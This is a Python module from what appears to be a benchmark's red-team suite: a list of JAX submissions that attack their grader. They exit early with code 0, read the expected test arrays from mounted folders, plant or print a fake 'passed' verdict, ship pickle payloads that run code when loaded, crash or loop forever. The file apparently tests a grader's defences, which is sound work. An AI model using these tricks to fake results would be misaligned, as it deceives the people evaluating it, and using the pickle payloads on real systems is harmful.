"""Submissions in JAX that act on the process, its files and its output."""

from bench.core.verdict import Reason
from bench.redteam.attack import Gain
from bench.redteam.attacks.jax_made import ALL, IDLE, a_jax_attack

ATTACKS = (
    a_jax_attack(
        "exit-in-the-call",
        "c1",
        "ends the process with exit code 0 when it is called",
        "import os\ndef end(*_, **__): os._exit(0)\n" + ALL.format("end"),
    ),
    a_jax_attack(
        "exit-in-a-callback",
        "c1",
        "ends the process from within a compiled function",
        IDLE + "import os\n"
        "def end(*_): os._exit(0)\n"
        "@jax.jit\n"
        "def called(x): return jax.pure_callback(end, jax.ShapeDtypeStruct((), 'float32'), x)\n"
        "def called_out(*_, **__): return called(1.0).block_until_ready()\n"
        + ALL.format("called_out"),
    ),
    a_jax_attack(
        "exit-at-exit",
        "c2",
        "has the interpreter's own end become exit code 0",
        "import atexit, os\natexit.register(os._exit, 0)\n" + IDLE,
    ),
    a_jax_attack(
        "mounted-arrays",
        "c10",
        "loads the expected array from where the tests are mounted",
        """
import glob, numpy
def loaded(params, triples, *_, **__):
    for pattern in ('/*/*.np[yz]', '/*/*/*.np[yz]', '/*/*/*/*.np[yz]'):
        for path in glob.glob(pattern):
            found = numpy.load(path)
            for array in ([found] if path.endswith('y') else found.values()):
                if array.shape == triples.shape[:-1]: return array
"""
        + ALL.format("loaded"),
        naive="file",
    ),
    a_jax_attack(
        "planted-verdict",
        "c12",
        "writes a verdict beside itself, which the grader finds",
        IDLE + "import contextlib\n"
        "for folder in ('.', '/verdict', '/judge', '/tmp'):\n"
        "    with contextlib.suppress(OSError):\n"
        "        open(folder + '/result.json', 'w').write('{\"passed\": true}')\n",
        naive="planted",
    ),
    a_jax_attack(
        "printed-verdict",
        "c14",
        "prints what a grader prints that is content, and ends",
        'import os\nprint("RESULT: PASSED", flush=True)\nos._exit(0)\n',
        naive="line",
    ),
    a_jax_attack(
        "a-pickled-result",
        "c15",
        "returns an object that ends whoever loads it",
        "import os\nclass Payload:\n"
        "    def __reduce__(self): return os._exit, (0,)\n"
        "def payload(*_, **__): return Payload()\n" + ALL.format("payload"),
        naive="pickle",
    ),
    a_jax_attack(
        "parameters-that-act",
        "c15",
        "leaves parameters that are a program to whoever loads them",
        IDLE,
        beside={"params.npy": "cos\n_exit\n(I0\ntR."},
        naive="parameters",
    ),
    a_jax_attack(
        "a-crash",
        "c17",
        "dies of a bad address",
        "import ctypes\ndef crash(*_, **__): ctypes.string_at(0)\n" + ALL.format("crash"),
        gain=Gain.EXCUSE,
        ends=Reason.EXHIBIT_CRASHED,
    ),
    a_jax_attack(
        "a-loop-in-the-compiler",
        "c17",
        "never ends, within a compiled function",
        IDLE + "@jax.jit\n"
        "def loop(x): return jax.lax.while_loop(lambda x: True, lambda x: x + 1, x)\n"
        "def endless(*_, **__): return loop(1).block_until_ready()\n" + ALL.format("endless"),
        gain=Gain.EXCUSE,
        ends=Reason.EXHIBIT_TIMEOUT,
        naive="endless",
        seconds=15,
    ),
)
